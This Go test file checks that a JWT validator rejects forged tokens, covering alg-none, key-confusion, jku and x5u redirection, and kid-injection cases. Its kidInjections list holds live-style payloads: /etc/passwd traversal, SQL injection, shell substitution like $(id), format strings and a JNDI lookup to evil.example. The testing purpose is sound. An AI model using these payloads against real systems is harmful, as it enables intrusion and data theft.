package protector_test

import (
	"strings"

	"example.com/resourceserver/jwt"
	"example.com/resourceserver/jwt/jwttest"
)

// algorithmAttacks misuse the header's choice of the algorithm.
var algorithmAttacks = []attack{
	{ // checklist 33, 109
		"alg none, in every letter case", "takes the header's word that nothing is signed",
		each([]string{"none", "None", "NONE", "nOnE", "NoNe", "nonE", "none ", "none\x00"},
			func(a *arena, alg string) string {
				return a.token(jwttest.Header("alg", alg), jwttest.Signature(nothing))
			}), nil, invalidToken(jwt.ReasonAlgorithm),
	},
	{ // checklist 33
		"alg none, signature kept", "checks no signature because of alg, and finds one that looks right",
		one(jwttest.Header("alg", "none")), nil, invalidToken(jwt.ReasonAlgorithm),
	},
	{ // checklist 48, 50, 51
		"RS256 to HS256, the public key as secret", "passes the public key to verify, which takes it for an HMAC secret",
		publicKeyAsSecret, nil, invalidToken(jwt.ReasonAlgorithm),
	},
	{ // checklist 51, 55
		"HS256 with no secret, or a guessed one", "verifies with whatever its configuration left empty",
		each([]string{"", "secret", "null", "undefined"}, func(a *arena, secret string) string {
			return a.token(jwttest.Header("alg", "HS256"), jwttest.Signature(hs256([]byte(secret))))
		}), nil, invalidToken(jwt.ReasonAlgorithm),
	},
	{ // checklist 51
		"HS256 with the oct key of the set", "uses any key of the set with any algorithm",
		func(a *arena) []string {
			return of(a.token(jwttest.Header("alg", "HS256"), jwttest.Header("kid", "oct"),
				jwttest.Signature(hs256([]byte(octSecret)))))
		}, nil, invalidToken(jwt.ReasonAlgorithm),
	},
	{ // checklist 49
		"an EC signature under the kid of an RSA key",
		"chooses the key by kid and the algorithm by header, and never compares",
		func(a *arena) []string {
			return of(a.token(jwttest.Alg("ES256"), jwttest.Header("kid", a.rsa)),
				a.token(jwttest.Alg("EdDSA"), jwttest.Header("kid", a.rsa)))
		}, nil, invalidToken(jwt.ReasonUnknownKey),
	},
	{ // checklist 32, 49, 88
		"PS256 by a key that names RS256", "takes one RSA key for all RSA algorithms",
		func(a *arena) []string { return of(a.token(jwttest.Key(a.rsa), jwttest.Alg("PS256"))) }, nil,
		invalidToken(jwt.ReasonUnknownKey),
	},
	{ // checklist 53
		"ES256 under the kid of a P-384 key", "lets the curve differ from the algorithm's",
		func(a *arena) []string {
			return of(a.token(jwttest.Alg("ES384"), jwttest.Header("alg", "ES256")))
		}, nil, invalidToken(jwt.ReasonUnknownKey),
	},
	{ // checklist 48
		"an algorithm nobody asked for", "offers all that its library can do",
		each([]string{"RS1", "ES256K", "Ed448", "ECDH-ES", "dir", "rs256", "RS256 ", ""}, func(a *arena, alg string) string {
			return a.token(jwttest.Header("alg", alg))
		}), nil, invalidToken(jwt.ReasonAlgorithm),
	},
	{ // checklist 70
		"alg is no string, or is missing", "falls back to a default",
		func(a *arena) []string {
			return of(a.token(jwttest.WithoutHeader("alg")), a.token(jwttest.Header("alg", nil)),
				a.token(jwttest.Header("alg", 1)),
				a.token(jwttest.Header("alg", []string{"RS256"})), a.token(jwttest.Header("alg", map[string]any{"RS256": 1})))
		}, nil, invalidToken(jwt.ReasonAlgorithm),
	},
	{ // checklist 69
		"alg twice", "reads the first where its library reads the last",
		one(jwttest.DuplicateHeader("alg", "none")), nil, invalidToken(jwt.ReasonHeader),
	},
}

// keyAttacks make the validator verify with a key of the attacker's choice.
var keyAttacks = []attack{
	{ // checklist 61
		"embedded jwk", "verifies with the key that the token brings along",
		func(a *arena) []string {
			return of(a.forged(jwttest.Header("jwk", a.strangerJWK())),
				a.forged(jwttest.Header("jwk", a.strangerJWK()), jwttest.WithoutHeader("kid")))
		}, nil, invalidToken(jwt.ReasonSignature),
	},
	{ // checklist 60, 117
		"jku to a server of the attacker", "fetches the key set from where the token says",
		each([]string{"", "@issuer.example", "#issuer.example", "?issuer.example"}, func(a *arena, suffix string) string {
			return a.forged(jwttest.Header("jku", a.trap.URL+"/jwks"+suffix))
		}), nil, invalidToken(jwt.ReasonSignature),
	},
	{ // checklist 60
		"x5u to a server of the attacker", "fetches the certificate from where the token says",
		func(a *arena) []string { return of(a.forged(jwttest.Header("x5u", a.trap.URL+"/chain.pem"))) }, nil,
		invalidToken(jwt.ReasonSignature),
	},
	{ // checklist 61
		"x5c with a certificate of the attacker's own", "verifies the chain against itself",
		func(a *arena) []string { return of(a.forged(jwttest.Header("x5c", []string{a.certificate(a.t)}))) }, nil,
		invalidToken(jwt.ReasonSignature),
	},
	{ // checklist 59
		"kid as a path, a query, a format, an address", "uses kid to open a file, to ask a database, to print or to fetch",
		each(kidInjections, func(a *arena, kid string) string {
			return a.token(jwttest.Unpublished(), jwttest.Header("kid", strings.ReplaceAll(kid, "TRAP", a.trap.URL)))
		}), nil, invalidToken(jwt.ReasonUnknownKey),
	},
	{ // checklist 59, 51
		"kid as the path of an empty file, HS256 over it", "reads the secret from /dev/null",
		func(a *arena) []string {
			return of(a.token(jwttest.Header("alg", "HS256"), jwttest.Header("kid", "../../../dev/null"),
				jwttest.Signature(hs256(nil))))
		}, nil, invalidToken(jwt.ReasonAlgorithm),
	},
	{ // checklist 64
		"kid of 9,000 characters", "keeps it, logs it and asks the issuer about it",
		one(jwttest.Header("kid", strings.Repeat("k", 9000))), nil, invalidToken(jwt.ReasonTooLarge),
	},
	{ // checklist 71
		"kid is no string", "prints it, and finds the key called 1",
		func(a *arena) []string {
			return of(a.token(jwttest.Header("kid", 1)), a.token(jwttest.Header("kid", nil)),
				a.token(jwttest.Header("kid", []string{a.rsa})), a.token(jwttest.Header("kid", map[string]any{})))
		}, nil, invalidToken(jwt.ReasonHeader),
	},
	{ // checklist 89
		"kid in another letter case", "compares without regard to case",
		func(a *arena) []string { return of(a.token(jwttest.Header("kid", strings.ToLower(a.rsa)))) }, nil,
		invalidToken(jwt.ReasonUnknownKey),
	},
	{ // checklist 34, 57
		"a key of another issuer, under the kid of ours", "keeps the keys of all issuers in one map",
		func(a *arena) []string {
			return of(a.other.Token(jwttest.Scope("profile")),
				a.other.Token(jwttest.Scope("profile"), jwttest.Claim("iss", a.issuer.URL())))
		}, nil, invalidToken(jwt.ReasonSignature),
	},
	{ // checklist 34
		"a key that the issuer does not publish", "looks for a key that fits until it finds one",
		one(jwttest.Unpublished()), nil, invalidToken(jwt.ReasonUnknownKey),
	},
	{ // checklist 91
		"no kid, and a key of the attacker", "takes a token without kid for one that needs no key",
		one(jwttest.Unpublished(), jwttest.WithoutHeader("kid")), nil, invalidToken(jwt.ReasonSignature),
	},
	{ // checklist 54, 85, 86, 92
		"a key of the set that must not be used", "takes what is in the set: weak, leaked, for encryption, for signing only",
		each([]string{"weak", "leaked", "enc", "sign"}, func(a *arena, kid string) string {
			return a.token(jwttest.Header("kid", kid), jwttest.Header("alg", "RS256"), jwttest.Signature(a.unfit[kid]))
		}), nil, invalidToken(jwt.ReasonUnknownKey),
	},
}

var kidInjections = []string{
	"../../../../../../etc/passwd", "/dev/null", `C:\Windows\win.ini`, "file:///etc/passwd", "TRAP/key.pem",
	"//evil.example/key",
	"' UNION SELECT 'secret' --", `x" OR "1"="1`, "1; DROP TABLE keys", "$(id)", "`id`", "|id", "%s%s%s%n", "%x%d",
	"${jndi:ldap://evil.example/a}",
	"{{7*7}}", "\x00", "a\r\nX: y", "__proto__", "constructor", "*", "null", "0", strings.Repeat("k", 4000),
}
